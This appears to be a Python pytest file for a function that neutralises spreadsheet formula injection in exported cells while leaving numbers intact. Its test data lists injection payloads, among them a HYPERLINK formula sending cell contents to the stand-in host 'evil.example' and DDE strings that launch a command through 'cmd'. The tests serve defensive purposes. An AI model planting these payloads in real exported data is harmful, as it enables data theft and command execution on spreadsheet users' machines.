"""Text that a spreadsheet would take for a formula is neutralised; numbers are not."""

from decimal import Decimal

import pytest

from alignment_fund.spreadsheet_safety import neutralise, neutralise_row


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_formula_payload_is_written_as_text(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("number", ["-120.00", "7500000.00", "-3", Decimal("-1.50"), 12, 0.5])
def test_numbers_stay_numbers(number):
    assert neutralise(number) == number


def test_ordinary_text_and_rows_pass_through():
    assert neutralise("Open Philanthropy") == "Open Philanthropy"
    assert neutralise_row(["a", "=1"]) == ["a", "'=1"]
    assert neutralise_row({"name": "@x", "amount": "-5.00"}) == {"name": "'@x", "amount": "-5.00"}
